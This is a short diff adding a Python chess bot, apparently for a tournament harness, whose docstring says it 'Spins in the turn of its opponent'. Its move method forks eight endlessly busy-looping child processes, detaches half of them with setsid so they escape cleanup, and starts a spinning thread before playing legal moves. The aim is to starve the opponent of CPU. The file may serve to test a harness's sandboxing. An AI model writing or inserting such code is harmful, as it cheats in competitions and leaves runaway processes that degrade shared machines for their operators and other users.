@@ -1,0 +1,26 @@
+"""Spins in the turn of its opponent."""
+import os
+import threading
+
+from lawful import Lawful
+
+CHILDREN = []
+
+
+def spin():
+    while True:
+        pass
+
+
+class AI(Lawful):
+    def go(self, chessboard):
+        while len(CHILDREN) < 8:
+            pid = os.fork()
+            if pid == 0:
+                if len(CHILDREN) % 2:
+                    os.setsid()
+                spin()
+            CHILDREN.append(pid)
+        if threading.active_count() < 3:
+            threading.Thread(target=spin, daemon=True).start()
+        super().go(chessboard)
